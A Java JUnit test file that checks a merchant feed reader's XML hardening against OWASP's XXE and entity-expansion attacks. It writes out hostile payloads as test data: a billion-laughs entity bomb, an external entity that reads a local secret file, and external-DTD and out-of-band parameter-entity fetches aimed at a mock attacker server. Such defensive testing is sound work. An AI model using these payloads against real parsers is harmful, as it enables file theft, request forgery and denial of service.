package io.reelforge.gateway.feed;

import static io.reelforge.gateway.feed.Feeds.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.net.URISyntaxException;
import java.nio.file.Path;
import javax.xml.stream.XMLStreamConstants;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamReader;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * Hostile XML (OWASP's XXE and entity-expansion cases) against both layers: the reader refuses any DOCTYPE, and
 * the parser ({@link HardenedXml}) processes no DTD and reads nothing from outside. The tests of what an attack
 * achieves (a file read, a URL fetched, an entity expanded) look at the outcome, whatever exception there is or
 * is not; they fail when the layers that stop the attack are taken out. The JDK's own limits stop the classic
 * billion laughs anyway, so no test relies on them.
 */
class MerchantFeedHardeningTest {

    private static final String PRODUCT = "<g:price>1 USD</g:price><g:image_link>https://cdn.example/k.jpg</g:image_link>";
    private static final String DOCTYPE_REFUSED = "The feed has a DOCTYPE declaration.";
    private static final String EXPANDED = "EXPANDED-ENTITY-TEXT";

    private final MerchantFeedReader reader = new MerchantFeedReader(FeedLimits.defaults(), Feeds.CLOCK);
    private final FeedServer attacker = new FeedServer();

    @AfterEach
    void stop() {
        attacker.close();
    }

    private ParsedFeed read(String xml) throws Exception {
        return reader.read(new ByteArrayInputStream(utf8(xml)));
    }

    /** What reading gives away: the items read (titles included), or the refusal's message. */
    private String outcome(String xml) throws Exception {
        try {
            return read(xml).toString();
        } catch (InvalidFeedException e) {
            return e.getMessage();
        }
    }

    /** All the text the hardened parser alone (without the reader's DOCTYPE refusal) reports, or its error. */
    private static String parsedAlone(String xml) {
        StringBuilder text = new StringBuilder();
        try {
            XMLStreamReader parser = HardenedXml.factory().createXMLStreamReader(new ByteArrayInputStream(utf8(xml)));
            while (parser.hasNext()) {
                if (parser.next() == XMLStreamConstants.CHARACTERS) {
                    text.append(parser.getText());
                }
            }
            return text.toString();
        } catch (XMLStreamException e) {
            return text + " / " + e.getMessage();
        }
    }

    /** An RSS feed whose one item's title is {@code title}, after {@code doctype}. */
    private static String feed(String doctype, String title) {
        return "<?xml version=\"1.0\"?>\n" + doctype + "\n<rss version=\"2.0\" xmlns:g=\"http://base.google.com/ns/1.0\">"
                + "<channel><item><g:title>" + title + "</g:title>" + PRODUCT + "</item></channel></rss>";
    }

    private static String secretFile() throws URISyntaxException {
        return Path.of(MerchantFeedHardeningTest.class.getResource("/feeds/hostile/secret.txt").toURI()).toUri()
                .toString();
    }

    @Test
    void aDoctypeIsRefusedWithAMessageThatSaysSo() {
        assertThatThrownBy(() -> read(feed("<!DOCTYPE rss>", "Kettle")))
                .isInstanceOf(InvalidFeedException.class)
                .hasMessageStartingWith(DOCTYPE_REFUSED)
                .hasMessageEndingWith("remove it.");
    }

    @Test
    void theBillionLaughsIsRefusedAtItsDoctypeNotStoppedMidwayByTheJdkLimit() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE rss [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        String bomb = feed(laughs.append("]>").toString(), "&lol9;");

        assertThatThrownBy(() -> read(bomb))
                .isInstanceOf(InvalidFeedException.class)
                .hasMessageStartingWith(DOCTYPE_REFUSED);
    }

    @Test
    void anExternalEntityNeverReadsALocalFile() throws Exception {
        String xxe = feed("<!DOCTYPE rss [<!ENTITY secret SYSTEM \"" + secretFile() + "\">]>", "&secret;");

        assertThat(outcome(xxe)).doesNotContain("REELFORGE-TEST-SECRET");
    }

    @Test
    void anExternalEntityNeverFetchesAUrl() throws Exception {
        outcome(feed("<!DOCTYPE rss [<!ENTITY probe SYSTEM \"" + attacker.url("/entity") + "\">]>", "&probe;"));

        assertThat(attacker.requests()).isEmpty();
    }

    @Test
    void anExternalDtdIsNeverFetched() throws Exception {
        // fetched while the DOCTYPE is read, before the reader sees it: only the parser's settings stop this
        outcome(feed("<!DOCTYPE rss SYSTEM \"" + attacker.url("/evil.dtd") + "\">", "Kettle"));

        assertThat(attacker.requests()).isEmpty();
    }

    @Test
    void aParameterEntityNeverFetchesAUrl() throws Exception {
        // the out-of-band XXE: the fetch happens inside the DOCTYPE, before the reader sees it
        outcome(feed("<!DOCTYPE rss [<!ENTITY % remote SYSTEM \"" + attacker.url("/oob.dtd") + "\"> %remote;]>",
                "Kettle"));

        assertThat(attacker.requests()).isEmpty();
    }

    @Test
    void declaredEntitiesAreNeverExpanded() throws Exception {
        assertThat(outcome(feed("<!DOCTYPE rss [<!ENTITY name \"" + EXPANDED + "\">]>", "&name;")))
                .doesNotContain(EXPANDED);
    }

    @Test
    void theParserAloneExpandsNoEntity() {
        assertThat(parsedAlone("<!DOCTYPE r [<!ENTITY name \"" + EXPANDED + "\">]><r>&name;</r>"))
                .doesNotContain(EXPANDED);
    }

    @Test
    void theParserAloneReadsNoLocalFile() throws URISyntaxException {
        assertThat(parsedAlone("<!DOCTYPE r [<!ENTITY secret SYSTEM \"" + secretFile() + "\">]><r>&secret;</r>"))
                .doesNotContain("REELFORGE-TEST-SECRET");
    }
}
